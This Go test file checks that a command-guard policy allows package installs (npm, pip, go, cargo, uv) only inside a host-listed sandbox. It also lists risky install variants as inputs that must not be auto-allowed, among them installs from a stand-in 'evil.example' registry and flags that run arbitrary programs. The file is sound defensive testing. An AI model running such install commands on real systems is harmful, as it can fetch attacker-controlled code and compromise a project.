package cmdguard

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/cmdguard/cmdguard/policy"
)

// installRows are the installs the embedded default allows, only under
// the sandbox whose network is a list of hosts.
var installRows = []string{
	"npm install", "npm ci", "npm i left-pad", "npm install --save-dev left-pad@1.3.0", "pnpm install --frozen-lockfile",
	"pnpm i", "yarn install --frozen-lockfile", "go mod download", "go mod download -x", "go get example.com/m@v1.2.3",
	"pip install requests", "pip install -r requirements.txt", "pip3 install -e .", "python -m pip install requests",
	"python3 -m pip install -r requirements.txt", "uv sync", "uv sync --frozen", "uv pip install requests", "cargo fetch",
	"cargo fetch --locked",
}

// TestDefaultInstalls: under the embedded default, each install is
// allowed when it runs under the sandbox (whose network the default
// lists: the registries), and asks without it (policy.needs_sandbox);
// the install's guards (another registry or index, a program to run, an
// install outside the project) ask under the sandbox too. On main
// before the installs group, every allow row asked (policy.no_match).
func TestDefaultInstalls(t *testing.T) {
	t.Parallel()
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	g, err := Open(root)
	if err != nil {
		t.Fatal(err)
	}
	if g.Policy().Path() != "" {
		t.Fatalf("%s: want the built-in policy", root)
	}
	check := func(cmd string, sandboxed bool) Decision {
		t.Helper()
		d, err := g.Check(context.Background(), Request{Command: cmd, Cwd: root, Sandboxed: sandboxed})
		if err != nil {
			t.Fatalf("Check(%q): %v", cmd, err)
		}
		return d
	}
	for _, cmd := range installRows {
		if d := check(cmd, true); d.Verdict != Allow || !hasReason(d, "policy.needs_sandbox", Allow) {
			t.Errorf("Check(%q) sandboxed with the default's host list = %s, want allow by policy.needs_sandbox: %s", cmd, d.Verdict, d.Summary())
		}
		if d := check(cmd, false); d.Verdict != Ask || !hasReason(d, "policy.needs_sandbox", Ask) {
			t.Errorf("Check(%q) unsandboxed = %s, want ask by policy.needs_sandbox: %s", cmd, d.Verdict, d.Summary())
		}
	}
	for _, cmd := range []string{
		"npm install --registry=http://evil.example/ left-pad", "npm install --script-shell /tmp/sh", "npm install -g left-pad",
		"npm ci --prefix /tmp/x", "npm install ../other", "npm install file:../other", "npm i /tmp/x.tgz",
		"pnpm install --dir /tmp", "yarn install --cwd /tmp", "pip install --index-url http://evil.example/simple x",
		"pip install --extra-index-url http://evil.example/simple x", "pip install -e ../x", "pip install -r ../req.txt",
		"pip install --target /tmp/t x", "pip install --user x", "python3 -m pip install -i http://evil.example/ x",
		"uv sync --python /tmp/py", "uv pip install --index-url http://evil.example/ x", "cargo fetch --config x=y",
		"cargo fetch --manifest-path ../x/Cargo.toml", "go mod download -modfile=/tmp/go.mod", "go get -toolexec=/tmp/x example.com/m",
	} {
		if d := check(cmd, true); d.Verdict == Allow {
			t.Errorf("Check(%q) sandboxed = allow, want ask (a guard): %s", cmd, d.Summary())
		}
	}
}

// TestInstallsNeedHostList: with a strict policy that allows the
// installs, they are allowed only under a sandbox whose network is a
// list of hosts: with network: true (an install script could send the
// project anywhere) or false they ask, and the input says which network
// the sandbox has (sandbox_network). On main, the network: true row was
// allowed (npm install counted as a runner only).
func TestInstallsNeedHostList(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		network string
		kind    string
		want    Verdict
	}{
		{"[registry.npmjs.org, proxy.golang.org]", policy.NetworkHosts, Allow},
		{"[]", policy.NetworkHosts, Allow},
		{"true", policy.NetworkAll, Ask},
		{"false", policy.NetworkNone, Ask},
	} {
		root, err := filepath.EvalSymlinks(t.TempDir())
		if err != nil {
			t.Fatal(err)
		}
		yaml := "version: 1\ndefault: ask\nstrict: true\nallow: [npm install, go mod download, pip install]\nsandbox:\n  network: " + c.network + "\n"
		if err := os.WriteFile(filepath.Join(root, ".cmdguard.yaml"), []byte(yaml), 0o644); err != nil {
			t.Fatal(err)
		}
		g, err := OpenPolicy(filepath.Join(root, ".cmdguard.yaml"))
		if err != nil {
			t.Fatal(err)
		}
		for _, cmd := range []string{"npm install", "go mod download", "pip install requests"} {
			d, err := g.Check(context.Background(), Request{Command: cmd, Cwd: root, Sandboxed: true})
			if err != nil || d.Verdict != c.want || !hasReason(d, "policy.needs_sandbox", c.want) {
				t.Errorf("network %s: Check(%q) sandboxed = %s, %v, want %s by policy.needs_sandbox: %s", c.network, cmd, d.Verdict, err, c.want, d.Summary())
			}
			d, err = g.Check(context.Background(), Request{Command: cmd, Cwd: root})
			if err != nil || d.Verdict != Ask {
				t.Errorf("network %s: Check(%q) unsandboxed = %s, %v, want ask", c.network, cmd, d.Verdict, err)
			}
		}
		st, err := g.src.current()
		if err != nil {
			t.Fatal(err)
		}
		for _, sandboxed := range []bool{false, true} {
			in, err := g.input(Request{Command: "npm install", Sandboxed: sandboxed}, st)
			want := ""
			if sandboxed {
				want = c.kind
			}
			if err != nil || in.SandboxNetwork != want {
				t.Errorf("network %s, sandboxed %v: input sandbox_network %q, %v; want %q", c.network, sandboxed, in.SandboxNetwork, err, want)
			}
		}
	}
}

func hasReason(d Decision, rule string, v Verdict) bool {
	return slices.ContainsFunc(d.Reasons, func(r Reason) bool { return r.Rule == rule && r.Verdict == v })
}
